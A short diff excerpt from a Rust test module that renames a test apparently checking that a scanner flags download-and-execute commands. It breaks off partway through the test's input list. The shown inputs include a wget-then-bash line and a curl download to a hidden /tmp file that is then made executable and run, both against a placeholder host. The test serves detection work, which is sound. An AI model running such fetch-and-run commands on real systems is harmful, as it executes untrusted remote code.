@@ -380,7 +380,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_stored_and_run_is_found() {
+    fn code_that_is_downloaded_and_run_is_found() {
         for text in [
             "wget http://x.example/a.sh && bash a.sh",
             "curl -o /tmp/.t https://x.example/b\nchmod +x /tmp/.t\n/tmp/.t",
